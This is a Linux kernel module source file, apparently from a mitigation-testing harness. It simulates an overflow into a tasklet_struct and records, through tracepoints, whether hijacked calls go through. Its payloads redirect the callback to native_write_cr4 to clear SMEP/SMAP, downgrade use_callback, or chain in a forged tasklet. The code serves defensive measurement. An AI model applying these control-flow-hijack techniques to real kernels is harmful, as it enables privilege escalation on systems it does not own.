// SPDX-License-Identifier: GPL-2.0
/*
 * The tasklet family (issue 28): the same overflow into a struct
 * tasklet_struct set up with tasklet_setup(), the API 5.9 gave it
 * (12cc923f1ccc). 6.1's and 6.12's tasklet_struct (include/linux/
 * interrupt.h) still is
 *
 *	{ next @0; state @8; count @16; bool use_callback @20;
 *	  union { void (*func)(unsigned long); void (*callback)(struct tasklet_struct *); } @24;
 *	  unsigned long data @32; }	40 bytes
 *
 * and tasklet_action_common() (kernel/softirq.c, 6.1 and 6.12) calls
 * t->callback(t) when use_callback is set, else t->func(t->data): two
 * indirect calls, of two types. The model's "transitional" generation.
 *
 * What tasklet_action_common() calls, and with what, is read at its own
 * trace_tasklet_entry()/trace_tasklet_exit() points (include/trace/events/
 * irq.h, in 6.1 and 6.12), which it passes the tasklet and the word it is
 * about to call; at the entry the unit reads the same tasklet the kernel
 * reads for the call (use_callback, and the argument it passes: the tasklet
 * or its data) and CR4, at the exit CR4 again: facts, never verdicts.
 *
 * Victim: the generic tasklet neighbour, as the model's (attacks/
 * tasklet_victim.h): char name[16] right before a tasklet_struct.
 */
#include <linux/delay.h>
#include <linux/interrupt.h>
#include <linux/kallsyms.h>
#include <linux/kernel.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <asm/special_insns.h>
#include <trace/events/irq.h>
#include "th_unit.h"

/* The layout the payloads write (6.1, 6.12: x86-64). */
static_assert(offsetof(struct tasklet_struct, use_callback) == 20);
static_assert(offsetof(struct tasklet_struct, func) == 24);
static_assert(offsetof(struct tasklet_struct, callback) == 24);
static_assert(offsetof(struct tasklet_struct, data) == 32);
static_assert(sizeof(struct tasklet_struct) == 40);

/* CVE-2017-7308's value: CR4 with SMEP and SMAP (and more) cleared. */
#define TH_CR4_VALUE	0x407f0UL

/* ---- the victim: the generic tasklet neighbour ------------------------------ */

struct th_tasklet_neighbour {
	char name[16];
	struct tasklet_struct tasklet;
	unsigned int owner_uid;
	unsigned int closed;		/* set by th_tasklet_force_close() */
	int runs;			/* the legitimate callback's count */
};
static_assert(offsetof(struct th_tasklet_neighbour, tasklet) == 16);

static struct th_tasklet_neighbour *th_tn;

static void th_tasklet_tick(struct tasklet_struct *t)
{
	struct th_tasklet_neighbour *n = from_tasklet(n, t, tasklet);

	WRITE_ONCE(n->runs, n->runs + 1);
}

/*
 * Another callback of the tasklet's own type that acts on its container:
 * the same-class target. Its address is taken below (th_tasklet_spare), as a
 * real callback's is by the tasklet_setup() that registers it.
 */
void th_tasklet_force_close(struct tasklet_struct *t)
{
	struct th_tasklet_neighbour *n = from_tasklet(n, t, tasklet);

	WRITE_ONCE(n->closed, 1);
}

static struct th_tasklet_neighbour th_tasklet_spare;

/* ---- what tasklet_action_common() calls -------------------------------------- */

static struct tasklet_struct *th_tl_watched;
static atomic_t th_tl_calls = ATOMIC_INIT(0), th_tl_returns = ATOMIC_INIT(0);

/*
 * trace_tasklet_entry(t, t->callback) or (t, t->func), right before
 * t->callback(t) or t->func(t->data) (kernel/softirq.c,
 * tasklet_action_common()): @func is the word called; the branch and its
 * argument are read from the same tasklet, as the kernel reads them next.
 */
static void th_tl_entry(void *data, struct tasklet_struct *t, void *func)
{
	bool cb;

	if (t != READ_ONCE(th_tl_watched))
		return;
	cb = READ_ONCE(t->use_callback);
	atomic_inc(&th_tl_calls);
	th_say("CALL tasklet_action_common -> %pS (tasklet %px) use_callback=%d arg=%#lx %s cr4=%#lx\n",
	       func, t, cb, cb ? (unsigned long)t : READ_ONCE(t->data),
	       cb ? "callback(t)" : "func(data)", native_read_cr4());
}

static void th_tl_exit(void *data, struct tasklet_struct *t, void *func)
{
	if (t != READ_ONCE(th_tl_watched))
		return;
	atomic_inc(&th_tl_returns);
	th_say("RETURN tasklet_action_common <- (tasklet %px) cr4=%#lx\n", t, native_read_cr4());
}

/* ---- the payloads -------------------------------------------------------------- */

/*
 * The attacker's image of the tasklet (@img: the bytes there now, as a leak
 * gives them) with its fields changed. @watch: the tasklet whose call is the
 * attack's (the victim's, or the forged one). Nothing here sleeps: it runs
 * with softirqs off when the tasklet is pending.
 */
struct th_tl_plan {
	unsigned long target;		/* the callback/func word; 0: none */
	const char *name;
	bool downgrade;			/* use_callback := 0, data := TH_CR4_VALUE */
	struct tasklet_struct *forged;	/* list:forged-tasklet: next := forged */
};

static int th_tl_resolve(const char *payload, struct th_tl_plan *p)
{
	memset(p, 0, sizeof(*p));
	if (!strcmp(payload, "none"))
		return 0;
	if (!strcmp(payload, "func:write_cr4")) {
		/* The callback word only: use_callback stays true, so the
		 * call is t->callback(t), void (struct tasklet_struct *). */
		p->name = "native_write_cr4";
		p->target = kallsyms_lookup_name(p->name);
	} else if (!strcmp(payload, "use-callback:write_cr4")) {
		/* The downgrade tasklet_setup() leaves open: use_callback := 0
		 * makes the call t->func(t->data), void (unsigned long), the
		 * type of native_write_cr4. */
		p->name = "native_write_cr4";
		p->target = kallsyms_lookup_name(p->name);
		p->downgrade = true;
	} else if (!strcmp(payload, "func:same-class")) {
		p->name = "th_tasklet_force_close";
		p->target = kallsyms_lookup_name(p->name);
	} else if (!strcmp(payload, "func:not-address-taken")) {
		p->name = "th_write_cr4_direct";
		p->target = kallsyms_lookup_name(p->name);
	} else if (!strcmp(payload, "func:mid-function")) {
		unsigned long fn = kallsyms_lookup_name("native_write_cr4");

		p->name = "native_write_cr4 past its first instruction";
		p->target = fn ? th_past_first_insn(fn) : 0;
	} else if (!strcmp(payload, "func:data-address")) {
		/* A data object's address (func.c): the callback word only. */
		p->name = "th-sleeper's struct cred";
		p->target = th_data_object();
	} else if (!strcmp(payload, "list:forged-tasklet")) {
		/* A tasklet of the attacker's (sprayed, its address leaked):
		 * scheduled, enabled, the legacy branch, the CVE's call. */
		p->name = "native_write_cr4";
		p->target = kallsyms_lookup_name(p->name);
		p->forged = kzalloc(sizeof(*p->forged), GFP_KERNEL);
		if (!p->forged)
			return -ENOMEM;
		p->forged->next = NULL;
		p->forged->state = BIT(TASKLET_STATE_SCHED);
		atomic_set(&p->forged->count, 0);
		p->forged->use_callback = false;
		p->forged->func = (void (*)(unsigned long))p->target;
		p->forged->data = TH_CR4_VALUE;
	} else {
		return -EINVAL;
	}
	if (!p->target) {
		th_say("TARGET missing %s: not in this kernel's kallsyms\n", p->name);
		return -ENOENT;
	}
	return 0;
}

/* The image's tasklet changed as @p says. */
static void th_tl_apply(const struct th_tl_plan *p, struct tasklet_struct *t)
{
	if (p->forged) {
		t->next = p->forged;
		return;
	}
	if (!p->target)
		return;
	t->callback = (void (*)(struct tasklet_struct *))p->target;
	if (p->downgrade) {
		t->use_callback = false;
		t->data = TH_CR4_VALUE;
	}
}

static void th_tl_intent(const struct th_tl_plan *p, char *buf, size_t n)
{
	if (p->forged)
		snprintf(buf, n, "next = a forged tasklet %px {state SCHED, count 0, use_callback 0, .func = %pS, .data = %#lx}",
			 p->forged, (void *)p->target, TH_CR4_VALUE);
	else if (p->downgrade)
		snprintf(buf, n, "use_callback = 0, .func = %pS, .data = %#lx", (void *)p->target,
			 TH_CR4_VALUE);
	else
		snprintf(buf, n, ".callback = %pS, use_callback left true", (void *)p->target);
}

/* ---- the run ---------------------------------------------------------------------- */

static int th_tl_setup(void)
{
	th_tn = kzalloc(sizeof(*th_tn), GFP_KERNEL);
	if (!th_tn)
		return -ENOMEM;
	tasklet_setup(&th_tasklet_spare.tasklet, th_tasklet_force_close);
	tasklet_setup(&th_tn->tasklet, th_tasklet_tick);
	strscpy(th_tn->name, "th-tasklet", sizeof(th_tn->name));
	th_tn->owner_uid = 1000;
	return 0;
}

int th_tasklet_run(const struct th_cell_def *c)
{
	bool pending = !strcmp(c->timing, "pending");
	struct tasklet_struct *victim, *watch;
	u8 img[sizeof(struct th_tasklet_neighbour)];
	const size_t toff = offsetof(struct th_tasklet_neighbour, tasklet);
	const size_t len = toff + sizeof(struct tasklet_struct);
	struct th_tl_plan p;
	char intent[200];
	bool landed = true;
	size_t j;
	int err, i;

	if (strcmp(c->technique, "tasklet-memcpy-intra")) {
		th_say("SETUP failed: %s victim for %s: %d\n", c->technique, c->id, -EINVAL);
		return -EINVAL;
	}
	err = th_tl_setup();
	if (err) {
		th_say("SETUP failed: %s victim for %s: %d\n", c->technique, c->id, err);
		return err;
	}
	victim = &th_tn->tasklet;
	th_say("VICTIM tasklet-neighbour legit=%pS tasklet=%px: %s\n", victim->callback, victim,
	       "struct {char name[16]; struct tasklet_struct tasklet; unsigned int owner_uid; ...}, set up with tasklet_setup(): memcpy past name");
	err = th_tl_resolve(c->payload, &p);
	if (err) {
		th_say("SETUP failed: payload %s: %d\n", c->payload, err);
		return err;
	}
	if (p.forged && !pending) {
		th_say("SETUP failed: payload %s needs a pending tasklet\n", c->payload);
		return -EINVAL;
	}
	watch = p.forged ? p.forged : victim;
	err = register_trace_tasklet_entry(th_tl_entry, NULL);
	if (!err)
		err = register_trace_tasklet_exit(th_tl_exit, NULL);
	if (err) {
		th_say("SETUP failed: tracepoints %d\n", err);
		return err;
	}
	th_tl_intent(&p, intent, sizeof(intent));
	WRITE_ONCE(th_tl_watched, watch);

	/*
	 * Softirqs off from the schedule (pending) through the write and its
	 * check: tasklet_schedule() queues the tasklet on this CPU's
	 * tasklet_vec and raises TASKLET_SOFTIRQ, which runs no earlier than
	 * local_bh_enable() (kernel/softirq.c: __local_bh_enable_ip() ->
	 * do_softirq()), so the write lands while it is queued, and the unit
	 * says whether it landed before tasklet_action_common() can call
	 * anything.
	 */
	local_bh_disable();
	if (pending)
		tasklet_schedule(victim);
	memcpy(img, th_tn->name, len);		/* the leak: the bytes there now */
	if (strcmp(c->payload, "none")) {
		th_tl_apply(&p, (struct tasklet_struct *)(img + toff));
		th_say("WRITE %zu bytes at tasklet%+ld (%s %s, tasklet %s): %s\n", len, -(long)toff,
		       c->technique, c->timing, pending ? "queued: state SCHED" : "not queued", intent);
		for (j = 0; j < len; j++)	/* byte by byte, as an overflow lands */
			WRITE_ONCE(((u8 *)th_tn->name)[j], img[j]);
		landed = !memcmp(th_tn->name, img, len);
		th_say("WRITE %s: .function=%pS use_callback=%d data=%#lx state=%#lx next=%px (tasklet %px%s)\n",
		       landed ? "landed" : "missed", watch->callback, watch->use_callback, watch->data,
		       watch->state, victim->next, watch, p.forged ? ", the forged one the victim's next points at" : "");
	} else {
		th_say("WRITE none: control run, nothing overwritten\n");
	}
	local_bh_enable();
	if (!landed)
		return -EIO;
	if (!pending)
		tasklet_schedule(victim);

	/* Wait for the softirq: the first call and its return, then 200 ms
	 * for its effects; 1.5 s at most. */
	for (i = 0; i < 150; i++) {
		msleep(10);
		if (atomic_read(&th_tl_returns) && i >= 20)
			break;
	}
	WRITE_ONCE(th_tl_watched, NULL);
	th_say("STATE tasklet-neighbour runs=%d closed=%d\n", READ_ONCE(th_tn->runs),
	       READ_ONCE(th_tn->closed));
	th_say("STATE calls=%d returns=%d pending=%d\n", atomic_read(&th_tl_calls),
	       atomic_read(&th_tl_returns), test_bit(TASKLET_STATE_SCHED, &watch->state));
	return 0;
}
